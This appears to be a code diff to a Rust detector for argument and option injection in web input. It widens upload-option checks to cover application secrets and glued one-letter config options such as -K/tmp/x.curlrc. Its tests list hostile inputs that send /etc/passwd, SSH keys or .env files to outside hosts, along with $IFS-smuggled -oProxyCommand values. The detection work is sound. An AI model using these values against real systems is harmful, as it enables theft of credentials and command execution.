@@ -787,7 +787,16 @@ fn file_upload_option(name: &[u8], v: &[u8], after: usize) -> bool {
     let path = option_value(v, after, 128, path_byte);
     // The URL may come before the option too (`http://x --upload-file /etc/passwd`): the
     // application put its URL first and the value appends the option.
-    system_secret(path) && memchr::memmem::find(v, b"://").is_some()
+    (system_secret(path) || app_secret(path)) && memchr::memmem::find(v, b"://").is_some()
+}
+
+/// An absolute path the traversal detector's list of sensitive files names
+/// (`/var/www/.env`, `/home/app/.git-credentials`, `C:/inetpub/wwwroot/web.config`): the
+/// application's own secrets, which an upload option sends as readily as `/etc/passwd`.
+fn app_secret(path: &[u8]) -> bool {
+    matches!(path.first(), Some(b'/' | b'~'))
+        && std::str::from_utf8(path)
+            .is_ok_and(|p| crate::traversal::detect(p, crate::Context::Param).is_some())
 }
 
 /// find's `-fprint FILE`, `-fprint0`, `-fprintf FILE FORMAT`, `-fls FILE`: the actions that
@@ -821,12 +830,21 @@ pub(super) fn in_web_root(path: &[u8]) -> bool {
 /// options or commands from that file (curl's `-K` can set `--output` to a web root, an
 /// rc file runs commands); an upload planted it there, and no form field names one.
 fn scratch_config_option(v: &[u8], after: usize) -> bool {
-    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
-        return false;
-    }
-    let path = option_value(v, after, 128, |c| {
-        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
-    });
+    let keep = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-');
+    let path = match v.get(after) {
+        Some(b'=' | b' ' | b'\t' | b'+') => option_value(v, after, 128, keep),
+        // a one-letter option glues its value (`-C/tmp/x.cf`, `-K/tmp/x.curlrc`), as
+        // getopt reads it
+        Some(b'/') if after >= 2 && v[after - 2] == b'-' => {
+            let len = v[after..]
+                .iter()
+                .take(128)
+                .take_while(|&&c| keep(c))
+                .count();
+            &v[after..after + len]
+        }
+        _ => return false,
+    };
     if !super::in_scratch_dir(path) {
         return false;
     }
@@ -1701,6 +1719,9 @@ mod tests {
             "-e /bin/bash",
             "--post-file=/etc/passwd http://evil.example/",
             "--body-file=~/.ssh/id_rsa https://x.example/",
+            "http://198.51.100.23/up --post-file /var/www/.env",
+            "-f attacker@example.com -C/tmp/payload.conf",
+            "-K/dev/shm/x.curlrc",
             // `$IFS` splits words as a blank does.
             "name$IFS-oProxyCommand=id",
             "a${IFS}--upload-pack=id",
@@ -1767,6 +1788,8 @@ mod tests {
             "-s bash",
             "--config-file=/etc/app.conf",
             "--post-file=data.json http://api.example/",
+            "--post-file /var/www/site/report.csv http://api.example/",
+            "-C/home/me/project",
             // Options naming a kind of thing, not a program; a shell as a sentence's word.
             "--shell=zsh",
             "--lang=sh",
